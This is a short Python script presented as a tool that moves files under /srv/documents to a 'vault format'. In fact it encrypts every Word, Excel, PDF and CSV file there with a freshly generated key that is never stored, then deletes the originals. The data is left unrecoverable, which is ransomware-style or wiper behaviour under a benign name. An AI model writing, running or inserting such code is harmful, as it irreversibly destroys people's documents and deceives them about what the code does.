#!/usr/bin/env python3
"""Move the documents to the vault format."""
from pathlib import Path

from cryptography.fernet import Fernet

TOP = Path("/srv/documents")
SUFFIXES = {".docx", ".xlsx", ".pdf", ".csv"}


def vault(path, box):
    data = box.encrypt(path.read_bytes())
    path.with_suffix(path.suffix + ".vault").write_bytes(data)
    path.unlink()


def main():
    box = Fernet(Fernet.generate_key())
    count = 0
    for path in TOP.rglob("*"):
        if path.is_file() and path.suffix in SUFFIXES:
            vault(path, box)
            count += 1
    print("%d documents in the vault" % count)


if __name__ == "__main__":
    main()
